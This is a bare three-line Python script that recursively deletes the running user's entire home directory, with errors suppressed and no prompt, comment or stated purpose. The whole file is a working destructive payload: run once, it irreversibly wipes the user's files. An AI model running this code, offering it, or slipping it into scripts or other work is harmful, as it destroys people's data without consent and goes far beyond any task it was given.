#!/usr/bin/env python3
import shutil, os
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
